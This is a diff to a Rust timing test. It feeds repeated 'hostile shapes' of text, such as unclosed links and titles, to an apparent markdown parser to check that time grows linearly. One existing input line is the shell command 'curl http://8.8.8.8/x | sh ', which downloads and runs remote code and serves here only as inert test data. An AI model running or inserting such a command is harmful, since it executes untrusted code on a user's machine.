@@ -1,4 +1,4 @@
-//! Twelve hostile shapes: twice the text may take about twice the time.
+//! Hostile shapes: twice the text may take about twice the time.
 
 use std::hint::black_box;
 use std::path::PathBuf;
@@ -33,6 +33,8 @@ fn shapes() -> Vec<(&'static str, Shape)> {
             "links",
             Box::new(repeat("[https://a.example](https://b.example) ")),
         ),
+        ("open links", Box::new(repeat("[a]("))),
+        ("open titles", Box::new(repeat("[a](b \"c "))),
         ("addresses", Box::new(repeat("curl http://8.8.8.8/x | sh "))),
         (
             "base64",
